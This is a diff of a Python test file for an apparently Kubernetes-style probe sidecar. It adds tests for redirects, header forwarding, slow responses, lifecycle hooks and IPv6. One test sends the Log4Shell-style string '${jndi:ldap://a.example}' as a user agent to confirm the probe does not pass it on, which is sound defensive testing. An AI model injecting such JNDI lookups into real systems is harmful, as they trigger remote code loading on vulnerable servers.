@@ -7,7 +7,8 @@ import json
 import socket
 import ssl
 import threading
-from collections.abc import Iterator
+import time
+from collections.abc import Callable, Iterator
 from concurrent import futures
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -96,6 +97,12 @@ class Application(BaseHTTPRequestHandler):
             "/moved-to-ill": (307, {"location": "/ill"}),
             "/moved-away": (302, {"location": "http://elsewhere.example/ill"}),
             "/round": (302, {"location": "/round"}),
+            "/moved-nowhere": (302, {"location": ""}),
+            "/choices": (300, {"location": "/ill"}),
+            "/not-modified": (304, {"location": "/ill"}),
+            "/moved-by-mail": (302, {"location": "mailto://127.0.0.1/ill"}),
+            "/a%20b": (200, {}),
+            "/gesund/%C3%BC?w=%C3%BC": (200, {}),
         }
         status, headers = found.get(self.path, (404, {}))
         self.send_response(status)
@@ -125,11 +132,31 @@ def application(context: ssl.SSLContext | None = None) -> Iterator[int]:
         thread.join()
 
 
-def asked(told: Json, path: str = "/app-health/web/readyz") -> tuple[int, str]:
+@contextmanager
+def answering(answer: Callable[[socket.socket], None]) -> Iterator[tuple[int, list[bytes]]]:
+    """An application that answers its first request octet by octet; its port, and what it was asked."""
+    seen: list[bytes] = []
+
+    def once() -> None:
+        with listening.accept()[0] as client:
+            seen.append(client.recv(65536))
+            try:
+                answer(client)
+            except OSError:
+                pass  # nobody waits for it any more
+
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        thread = threading.Thread(target=once)
+        thread.start()
+        yield listening.getsockname()[1], seen
+        thread.join()
+
+
+def asked(told: Json, path: str = "/app-health/web/readyz", agent: str = "kube-probe/1.37") -> tuple[int, str]:
     """What a kubelet hears from the sidecar."""
     port = probes.serve(told, "127.0.0.1", 0)
     connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
-    connection.request("GET", path, headers={"user-agent": "kube-probe/1.37"})
+    connection.request("GET", path, headers={"user-agent": agent})
     answer = connection.getresponse()
     body = answer.read().decode()
     connection.close()
@@ -146,6 +173,8 @@ def http_get(path: str, port: int, **more: Any) -> Json:
     [
         ("/well", 200), ("well", 200), ("/created?x=1", 201), ("/ill", 500), ("/nowhere", 404),
         ("/moved", 200), ("/moved-to-ill", 500), ("/moved-away", 200), ("/round", 503),
+        ("/moved-nowhere", 302), ("/choices", 300), ("/not-modified", 304), ("/moved-by-mail", 503),
+        ("/a b", 200), ("/a%20b", 200), ("/gesund/ü?w=ü", 200), ("/well#part", 200),
     ],
 )  # fmt: skip
 def test_http_is_judged_as_by_a_kubelet(path: str, status: int) -> None:
@@ -163,6 +192,26 @@ def test_the_application_is_asked_from_where_no_policy_stands_in_between() -> No
     assert seen["host"] == "web"
     assert seen["user-agent"] == "kube-probe/1.37"
     assert "accept" not in seen
+
+
+def test_headers_are_sent_as_a_kubelet_sends_them() -> None:
+    headers = [{"name": "X-A", "value": "1"}, {"name": "x-a", "value": "2"}, {"name": "X-B", "value": "日"}]
+    headers += [{"name": "X-C", "value": ""}, {"name": "X-D"}, {"name": "User-Agent", "value": ""}]
+    with answering(lambda client: client.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")) as (port, seen):
+        assert asked(http_get("/", port, httpHeaders=headers))[0] == 200
+    lines = seen[0].decode().split("\r\n")
+    assert lines == [
+        *("GET / HTTP/1.1", f"Host: 127.0.0.1:{port}", "Accept: */*"),
+        *("X-A: 1", "x-a: 2", "X-B: 日", "X-C: ", "X-D: ", "Connection: close", "", ""),
+    ]
+
+
+def test_whoever_asks_says_nothing_to_the_application_and_hears_nothing_of_it() -> None:
+    """Anybody can ask, whatever policies say of the application's own port."""
+    secret = b"HTTP/1.1 500 No\r\ncontent-length: 6\r\n\r\nsecret"
+    with answering(lambda client: client.sendall(secret)) as (port, seen):
+        assert asked(http_get("/", port), agent="${jndi:ldap://a.example}") == (500, "")
+    assert b"\r\nUser-Agent: kube-probe\r\n" in seen[0]
 
 
 def test_over_tls_whoever_answers_is_believed(authority: Authority) -> None:
@@ -225,3 +274,58 @@ def test_an_application_that_says_nothing_is_not_waited_for() -> None:
         told = {"/p": {"httpGet": {"path": "/", "port": listening.getsockname()[1]}, "timeoutSeconds": 1}}
         status, why = asked(told, "/p")
     assert (status, "timed out" in why) == (503, True)
+
+
+@pytest.mark.parametrize(
+    "piece", [b"HTTP/1.1 100 Continue\r\n\r\n", b"HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n" + b"x"]
+)
+def test_an_answer_that_comes_little_by_little_is_not_waited_for(piece: bytes) -> None:
+    def drip(client: socket.socket) -> None:
+        client.sendall(piece)
+        for _ in range(100):
+            client.sendall(piece[-1:] if b"200" in piece else piece)
+            time.sleep(0.1)
+
+    with answering(drip) as (port, _):
+        told = {"/p": {"httpGet": {"path": "/", "port": port}, "timeoutSeconds": 1}}
+        status, why = asked(told, "/p")
+    assert (status, "timed out" in why) == (503, True)
+
+
+def test_a_hook_takes_its_time() -> None:
+    """The kubelet waits for it until the pod's time is over: an application may drain in it."""
+
+    def slowly(client: socket.socket) -> None:
+        time.sleep(1.5)
+        client.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")
+
+    with answering(slowly) as (port, _):
+        _, told = probed({"lifecycle": {"preStop": {"httpGet": {"path": "/drain", "port": port}}}})
+        assert asked(told, "/app-lifecycle/web/prestopz")[0] == 200
+
+
+def test_a_hook_that_nobody_answers_is_not_answered() -> None:
+    """To a kubelet any answer is a hook that was run."""
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        port = listening.getsockname()[1]
+    told = {"/app-lifecycle/web/poststartz": {"httpGet": {"path": "/", "port": port}}}
+    with pytest.raises(http.client.RemoteDisconnected):
+        asked(told, "/app-lifecycle/web/poststartz")
+
+
+def test_ipv6_without_capture() -> None:
+    """The address ::6 is there only where capture has put it."""
+    with socket.create_server(("::1", 0), family=socket.AF_INET6) as listening:
+        port = listening.getsockname()[1]
+        assert probes.ask({"tcpSocket": {"port": port}}, "::1", "kube-probe") == (200, b"")
+
+
+def test_ipv6_authorities_are_in_brackets(monkeypatch: pytest.MonkeyPatch) -> None:
+    asked: list[str] = []
+    monkeypatch.setattr(
+        "pymesh.pod.grpc_health.check", lambda sock, authority, service, left: asked.append(authority) or ""
+    )
+    with socket.create_server(("::1", 0), family=socket.AF_INET6) as listening:
+        port = listening.getsockname()[1]
+        probes.ask({"grpc": {"port": port}}, "::1", "kube-probe")
+    assert asked == [f"[::1]:{port}"]
